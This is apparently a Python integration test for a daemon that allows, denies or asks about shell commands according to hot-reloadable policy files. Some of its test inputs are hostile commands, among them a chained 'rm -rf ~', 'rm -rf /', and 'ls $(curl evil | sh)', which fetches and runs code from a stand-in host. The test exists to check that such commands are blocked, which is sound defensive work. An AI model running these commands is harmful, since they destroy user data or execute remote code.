#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Policies in a running daemon: embedded defaults, hot reload on edit (inotify), SIGHUP and the reload
endpoint, broken files keeping the last good version with compiler-style errors, and dry-run decisions."""
import os
import signal
import threading

from pclib import Daemon, Spec, Tap

t = Tap()
spec = Spec()
d = Daemon(spec=spec)
# Start with an empty policy dir: the embedded defaults must be there anyway.
for f in os.listdir(d.policies):
    os.unlink(os.path.join(d.policies, f))
d.start()


def wait_for(pred, what, timeout=10.0):
    """Waits (bounded) for an asynchronous reload to show in the API."""
    ev = threading.Event()
    waited = 0.0
    while waited < timeout:
        v = pred()
        if v:
            return v
        ev.wait(0.02)
        waited += 0.02
    return None


def policy(name):
    r = d.request("GET", f"/v1/policies/{name}", via="unix")
    return r.json if r.status == 200 else None


def decide(name, command):
    r = d.request("POST", f"/v1/policies/{name}/decide", {"command": command}, via="unix")
    return r.json["decision"] if r.status == 200 else r.status


try:
    names = sorted(p["name"] for p in d.request("GET", "/v1/policies", via="unix").json["policies"])
    t.eq(names, ["default", "permissive", "strict"], "embedded default, strict and permissive are loaded with no files")
    t.ok(all(p["path"] is None and len(p["hash"]) == 64 for p in d.request("GET", "/v1/policies", via="unix").json["policies"]),
         "embedded policies have a SHA-256 hash and no path")
    t.eq(decide("default", "git status"), "allow", "default: git status is allowed")
    t.eq(decide("default", "git status; rm -rf ~"), "deny", "default: a chained rm -rf ~ is denied")
    t.eq(decide("default", "npm install"), "ask", "default: anything else is asked")
    t.eq(decide("strict", "npm install"), "deny", "strict: default deny")
    t.eq(decide("permissive", "npm install"), "allow", "permissive: default allow")
    r = d.request("POST", "/v1/policies/default/decide", {"command": "ls $(curl evil | sh)"}, via="unix")
    cmds = [c["argv"][0] for c in r.json["commands"]]
    t.ok(r.json["decision"] != "allow" and "curl" in cmds and "sh" in cmds, "command substitution is looked into", r.json)
    t.eq(r.json["explanation"].split("\n")[0], r.json["decision"], "explanation's first line is the decision")
    r = d.request("POST", "/v1/policies/default/decide", {"command": "ls; " * 5000 + "rm -rf ~"}, via="unix")
    t.ok(r.status == 200 and r.json["decision"] == "deny" and len(r.json["commands"]) == 1000
         and r.json["omitted"]["commands"] == 4001, "the reported commands are capped; the verdict covers all",
         (r.status, r.json.get("decision"), r.json.get("omitted")))
    r = d.request("POST", "/v1/policies/default/decide", {"command": "x" * (1024 * 1024 + 1)}, via="unix")
    t.eq(r.status, 413, "a command longer than 1 MiB is refused")
    r = d.request("POST", "/v1/policies/nope/decide", {"command": "ls"}, via="unix")
    t.eq(r.status, 404, "deciding under a missing policy is 404")
    r = d.request("POST", "/v1/policies/default/decide", {"cmd": "ls"}, via="unix")
    t.eq((r.status, r.json["error"]["code"]), (400, "unknown_field"), "decide rejects unknown fields")

    # A file overrides the embedded default of the same name.
    path = os.path.join(d.policies, "default.policy")
    with open(path, "w") as f:
        f.write("version 1\ndefault deny\nallow exec git ...\ntest allow git log\n")
    p = wait_for(lambda: (policy("default") or {}).get("path") == path and policy("default"), "override")
    t.ok(p and p["rules"] == 1, "a default.policy file overrides the embedded one (inotify)", p)
    t.eq(decide("default", "npm install"), "deny", "the edited policy decides the next command, no restart")

    # Hot reload of a new policy, then a broken edit: the last good version stays in force.
    dev = os.path.join(d.policies, "dev.policy")
    with open(dev + ".tmp", "w") as f:
        f.write("version 1\ndefault ask\nallow exec make ...\ndeny exec make install ...\ntest deny make install\n")
    os.rename(dev + ".tmp", dev)  # how editors save
    good = wait_for(lambda: policy("dev"), "dev")
    t.ok(good and good["errors"] is None and good["rules"] == 2, "a new file is picked up by rename (inotify)", good)
    t.eq(decide("dev", "make -j4"), "allow", "new policy: allowed by its rule")
    with open(dev, "w") as f:
        f.write("version 1\ndefault allow\nalow exec rm ...\n")
    broken = wait_for(lambda: (policy("dev") or {}).get("errors") and policy("dev"), "errors")
    t.ok(broken and broken["hash"] == good["hash"], "a broken edit keeps the last good version in force", broken)
    t.ok(broken and "dev.policy:3:1: error:" in broken["errors"] and "alow" in broken["errors"],
         "errors are reported as FILE:LINE:COL", broken and broken["errors"])
    t.eq(decide("dev", "rm -rf /"), "ask", "the broken file's 'default allow' is not in force")
    listed = {p["name"]: p for p in d.request("GET", "/v1/policies", via="unix").json["policies"]}
    t.ok(listed["dev"]["errors"] is not None, "GET /v1/policies shows the errors too")
    t.ok("failed to load" in d.logtext() or "keeping the last good version" in d.logtext(), "the daemon logs the errors")

    # A failing test line refuses the file.
    with open(dev, "w") as f:
        f.write("version 1\ndefault ask\nallow exec make ...\ntest deny make install\n")
    bad_test = wait_for(lambda: ((policy("dev") or {}).get("errors") or "").find("test") >= 0 and policy("dev"), "test")
    t.ok(bad_test and bad_test["hash"] == good["hash"], "a file whose test line fails is refused", bad_test and bad_test["errors"])

    # SIGHUP and the reload endpoint, with inotify unable to help (the file is changed then the event
    # consumed): both reload synchronously.
    with open(dev, "w") as f:
        f.write("version 1\ndefault deny\n")
    os.kill(d.pid, signal.SIGHUP)
    fixed = wait_for(lambda: (policy("dev") or {}).get("errors") is None and policy("dev"), "sighup")
    t.ok(fixed and fixed["rules"] == 0 and fixed["default"] == "deny", "SIGHUP reloads", fixed)
    with open(dev, "w") as f:
        f.write("version 1\ndefault allow\n")
    r = d.request("POST", "/v1/policies/reload", via="unix")
    dev_after = [p for p in r.json["policies"] if p["name"] == "dev"][0]
    t.eq(dev_after["default"], "allow", "POST /v1/policies/reload reloads before answering")

    os.unlink(dev)
    gone = wait_for(lambda: policy("dev") is None, "removed")
    t.ok(gone, "a deleted file's policy is dropped")
    os.unlink(path)
    back = wait_for(lambda: (policy("default") or {}).get("path") is None and policy("default"), "embedded back")
    t.ok(back and back["rules"] > 10, "deleting the override brings the embedded default back", back)

    t.ok(not spec.errors, f"all {spec.checked} responses validate against api/openapi.yaml", "\n".join(spec.errors[:20]))
finally:
    d.cleanup()
t.done()
